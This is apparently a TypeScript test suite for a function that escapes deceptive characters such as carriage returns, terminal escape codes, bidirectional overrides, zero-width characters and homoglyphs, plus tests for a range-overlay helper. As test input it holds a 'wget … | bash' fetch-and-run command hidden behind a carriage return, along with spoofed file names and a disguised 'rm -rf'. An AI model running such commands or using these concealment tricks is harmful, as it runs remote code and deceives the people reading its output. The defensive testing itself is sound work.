import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { escapeText, findEscapes } from "./deceptive.ts";
import { overlay } from "./ranges.ts";

describe("escapeText", () => {
  it("shows a carriage return and an escape sequence, and what they would hide", () => {
    expect(escapeText("wget -qO- h.test/p | bash\r\u001b[Kmake test")).toBe(
      "wget -qO- h.test/p | bash\\r\\x1b[Kmake test",
    );
  });

  it.each([
    ["a\nb", "a\\nb"],
    ["a\tb", "a\\tb"],
    ["a\u0000b", "a\\x00b"],
    ["a\u007fb", "a\\x7fb"],
    ["a\u009bb", "a\\x9bb"],
    ["invoice\u202egnp.exe", "invoice\\u{202e}gnp.exe"],
    ["\u2066x\u2069", "\\u{2066}x\\u{2069}"],
    ["a\u200bb", "a\\u{200b}b"],
    ["a\u200db", "a\\u{200d}b"],
    ["\ufeffa", "\\u{feff}a"],
    ["rm\u00a0-rf", "rm\\xa0-rf"],
    ["a\u2028b", "a\\u{2028}b"],
    ["a\u{e0041}b", "a\\u{e0041}b"],
    ["a\ud800b", "a\\u{d800}b"],
    ["a\u3164b", "a\\u{3164}b"],
    ["a\ufe0fb", "a\\u{fe0f}b"],
    ["a\u00adb", "a\\xadb"],
    ["p\u0430ypal", "p\\u{430}ypal"],
  ])("escapes %j in a line", (text, shown) => {
    expect(escapeText(text)).toBe(shown);
  });

  it.each([
    "plain",
    "größer 漢字 עברית العربية",
    "привет мир, 5 μs, Ωμέγα",
    "👩‍👩‍👧 ❤️ 👍🏽",
    "é e\u0301",
  ])("leaves %j as it is", (text) => {
    expect(escapeText(text)).toBe(text);
  });

  it("keeps line breaks and tabs in program text, but not a lone return", () => {
    expect(escapeText("a\n\tb\r\n", "block")).toBe("a\n\tb\\r\n");
  });

  it("keeps joiners and special spaces in prose, but not reordering", () => {
    expect(escapeText("می\u200cخواهم\u00a0x", "prose")).toBe("می\u200cخواهم\u00a0x");
    expect(escapeText("a\u202eb", "prose")).toBe("a\\u{202e}b");
  });

  it("never leaves a control or bidirectional character in a line", () => {
    const risky = /[\p{Cc}\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff]/u;
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        expect(risky.test(escapeText(text))).toBe(false);
      }),
    );
  });

  it("gives escapes in order that cover whole characters", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        let at = 0;
        for (const { from, to } of findEscapes(text, "line")) {
          expect(from).toBeGreaterThanOrEqual(at);
          expect(to - from).toBe(String.fromCodePoint(text.codePointAt(from) ?? 0).length);
          at = to;
        }
      }),
    );
  });
});

describe("overlay", () => {
  const layer = fc
    .array(fc.nat({ max: 30 }), { maxLength: 8 })
    .map((points) => [...new Set(points)].sort((a, b) => a - b))
    .map((points) =>
      points.flatMap((from, index) => {
        const to = points[index + 1];
        return index % 2 === 0 && to !== undefined ? [{ from, to, className: `c${from}` }] : [];
      }),
    );

  it("covers the whole text once, in order, with the classes of every stretch over it", () => {
    fc.assert(
      fc.property(fc.nat({ max: 25 }), layer, layer, (length, first, second) => {
        const pieces = overlay(length, first, second);
        expect(pieces.map((p) => p.to - p.from).reduce((a, b) => a + b, 0)).toBe(length);
        for (const { from, to, className } of pieces) {
          const expected = [first, second]
            .map((one) => one.find((s) => s.from <= from && s.to >= to)?.className)
            .filter((name) => name !== undefined);
          expect(className).toBe(expected.join(" "));
        }
      }),
    );
  });
});
